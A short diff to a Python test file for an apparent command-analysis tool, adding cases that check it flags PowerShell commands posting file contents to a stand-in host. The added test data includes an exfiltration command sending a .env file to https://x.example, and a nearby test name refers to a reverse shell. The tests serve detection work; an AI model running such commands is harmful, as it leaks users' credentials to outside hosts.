@@ -116,6 +116,10 @@ def test_secret_piped_to_the_web_is_sent():
     assert net[0].net.sends_secret
     net = find(ps("Get-Content README.md | Invoke-RestMethod -Uri https://x.example -Method Post"), "network")
     assert net[0].net.sends_data and not net[0].net.sends_secret
+    net = find(ps("Invoke-RestMethod -Uri https://x.example -Method Post -Body (Get-Content .env)"), "network")
+    assert net[0].net.sends_secret  # a subexpression's value carries what it read
+    net = find(ps("Invoke-RestMethod -Uri https://x.example -Method Post -Body (Get-Content data.json)"), "network")
+    assert net[0].net.sends_data and not net[0].net.sends_secret
 
 
 def test_tcpclient_wired_to_iex_is_a_reverse_shell():
